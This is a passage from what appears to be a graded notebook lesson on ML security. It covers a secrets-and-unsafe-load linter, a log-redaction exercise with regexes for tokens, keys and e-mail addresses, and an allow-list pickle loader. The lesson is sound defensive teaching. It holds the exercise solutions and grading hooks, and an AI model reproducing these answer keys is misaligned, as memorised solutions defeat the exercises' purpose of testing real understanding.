        if name.lower().endswith(("password", "secret", "token", "api_key")) and value and type(value) is str:
            found.add(("secret", line))
    return sorted(found)
    ### END SOLUTION


# %%
check("implementation.find_issues", find_issues)

# %%
# hint("implementation.find_issues")

# %% tags=["raises-exception"]
judged(find_issues)

# %% [markdown]
# All 45, and no false alarm. But the rules and the repository come from the same hand, so expect less of your
# own code. This linter follows no value from one variable to the next, and whoever wants to hide a call from
# it can: it's for colleagues, not for attackers.
#
# In your build use a tool that others maintain. We ran `bandit` 1.9.4 on these 12 files. It sees 35 of the
# 45. It misses `joblib.load`, the name `API_KEY`, a secret with a type annotation, and one renamed
# `yaml.load`. It raises alarms on 25 other lines, 18 of them about the mere import of `pickle` or
# `subprocess`. Tools that follow values, such as CodeQL or Semgrep's taint mode, can see what this one can't,
# where they have rules for the libraries that you use.
#
# ## Part 7 (stretch): What your logs give away
#
# A refused request gets logged, and with it whatever the client put in: a token in a header, an address in a
# comment. Who may read your logs, and how long do you keep them?

# %%
SECRET_WORDS = {"password", "secret", "token", "authorization", "cookie"}
SECRET_TEXT = re.compile(
    r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+"  # an e-mail address
    r"|Bearer [\w.~+/-]+=*"  # a token as it stands in a header
    r"|\b(?:sk|ghp|AKIA)[-_]?[A-Za-z0-9]{16,}"  # keys with well-known beginnings
)
REDACTED = "[redacted]"


def inside(text):
    """The text that `text` is base64 of; "" when it is not base64, or not of text."""
    try:
        return base64.b64decode(text, validate=True).decode()
    except ValueError:
        return ""


print(repr(inside("YWRhQGV4YW1wbGUub3Jn")), repr(inside("no base64")))

# %% [markdown]
# **And now you're the leak.** Say somebody pastes a line of your log into a ticket, and a token is in it.
# This function takes it out before the line is written.
#
# ### Exercise: redact
#
# *13 minutes · stretch · 10 points · AML.T0055 · PW.5.1*
#
# `redact(record)` returns a copy of a log record that is fit to be kept.
#
# | in the record | in the copy | rule |
# | --- | --- | --- |
# | `{"X-Auth-Token": 17, "max_tokens": 256}` | `{"X-Auth-Token": "[redacted]", "max_tokens": 256}` | 1 |
# | `"ask ada@example.org or bob@example.org"` | `"ask [redacted] or [redacted]"` | 2 |
# | `b"ask ada@example.org"` | `b"ask [redacted]"` | 3 |
# | `"YWRhQGV4YW1wbGUub3Jn"` | `"[redacted]"` | 4 |
#
# | name | what it is |
# | --- | --- |
# | `record` | a dict, its keys texts, of dicts, lists, tuples, texts, bytes, numbers, booleans, `None` |
# | returns | the copy; the record that you were given stays as it was |
#
# 1. The value under a **secret key**, whatever it is, becomes `REDACTED`. A key is secret when one of its
#    words is in `SECRET_WORDS`, capitals or not. Words end at everything but letters and digits:
#    `re.split(r"[\W_]+", key)`.
# 2. In every other **text**, each match of `SECRET_TEXT` becomes `REDACTED`, and the rest stays.
# 3. The same in **bytes** that are UTF-8. There it becomes `REDACTED.encode()`. Other bytes stay.
# 4. A text is **base64**, and what `inside(text)` gives contains a match of `SECRET_TEXT`: the whole text
#    becomes `REDACTED`. For such bytes it is `REDACTED.encode()`.
#
# Judged on records with every kind of secret, and with values beside them that only look like one: all
# secrets replaced and nothing else changed, for keys (3), texts (2), bytes (2) and base64 (2); the record
# left as it was (1).
#
# <details><summary>The fine print</summary> Keys stay, whatever they look like. So do the types of containers
# and the order of keys. A letter is a letter in every language: <code>"tokené"</code> is one word, and not
# secret. <code>"tokenizer"</code> and <code>"max_tokens"</code> aren't either. A text is base64 only as a
# whole, as <code>inside</code> takes it: without blanks around it, and not with the <code>-</code> and
# <code>_</code> of web addresses. What base64 holds is not decoded a second time.</details>


# %%
def redact(record):
    ### BEGIN SOLUTION
    if isinstance(record, dict):
        return {
            key: REDACTED if SECRET_WORDS & set(re.split(r"[\W_]+", key.lower())) else redact(value)
            for key, value in record.items()
        }
    if isinstance(record, list | tuple):
        return type(record)(redact(value) for value in record)
    if isinstance(record, bytes):
        try:
            return redact(record.decode()).encode()
        except UnicodeDecodeError:
            return record
    if isinstance(record, str):
        return REDACTED if SECRET_TEXT.search(inside(record)) else SECRET_TEXT.sub(REDACTED, record)
    return record
    ### END SOLUTION


# %%
check("implementation.redact", redact)

# %%
# hint("implementation.redact")

# %% tags=["raises-exception"]
redact(
    {
        "path": "/predict",
        "headers": {"X-Auth-Token": "s3cr3t", "max_tokens": 256},
        "note": "ask ada@example.org",
        "raw": base64.b64encode(b"Bearer 9f8e7d6c5b4a"),
    }
)

# %% [markdown]
# Redaction finds what it has a pattern for. It's better if the log never had the secret: log the reason, the
# row and the column, as `Rejected` does, and not the value.
#
# ## Summary
#
# 1. Loading a pickle runs the file's program. Honest files and hostile ones use the same opcodes.
# 2. An error doesn't protect you: what stands before it has run. A reader that can't finish never says
#    *safe*.
# 3. Allow exact pairs, before the import. That narrows what can run, and proves nothing about the rest.
# 4. A contract refuses; it changes no value. Say why and where, and don't repeat the value.
# 5. Judge a linter by what it finds and by its false alarms. Then let it stop the build.
#
# ## Use it on Monday
#
# Copy this loader into your repository. First print the names of a file that *you* made, review them, and put
# them into `ALLOWED`. It reads pickles. If you have joblib files, load each once where it was made, and save
# it with `pickle.dump`. A fuller checklist is
# [the Monday sheet](monday.md).

# %%
ALLOWED = {("builtins", "complex")}  # yours: what Asking prints, reviewed


class Loader(pickle.Unpickler):
    def find_class(self, module, name):
        if (module, name) not in ALLOWED:
            raise pickle.UnpicklingError(f"{module}.{name} is not allowed")
        return super().find_class(module, name)


class Asking(pickle.Unpickler):  # loads for real: only for a file that you made
    def find_class(self, module, name):
        print((module, name))
        return super().find_class(module, name)


file = io.BytesIO(pickle.dumps(2j))  # yours: open("model.pkl", "rb")
Asking(file).load()
file.seek(0)
print(Loader(file).load())

# %% [markdown]
# - [ ] List every `load` of a pickle, joblib, torch or YAML file, and who can write to where it reads.
# - [ ] For strangers' files, use a format without code. Put an allow-list on the others, log the name that it
#       refused, and limit memory around it.
# - [ ] Run a scanner such as `picklescan` or `modelscan` on what comes in, and count an error as a finding.
#       They look for bad names, so they miss those that nobody listed.
# - [ ] Write the input contract of one endpoint, and send it NaN, `true`, `"1e3"`, an extra column and a
#       million rows in a test.
# - [ ] Run `bandit` in the build. Measure its false alarms before it may block.
# - [ ] Look for secrets in the code and in yesterday's log. Revoke what you find; deleting is not enough.

# %%
progress()

# %% [markdown]
# ## What comes next
#
# Here you read a file before you loaded it. How to tell who made it, and out of what, is the next lesson:
# [Supply chain: pin, sign, list and verify](../supply_chain/supply_chain.ipynb). Your map is on the [start
# page](../../start/welcome/welcome.ipynb).
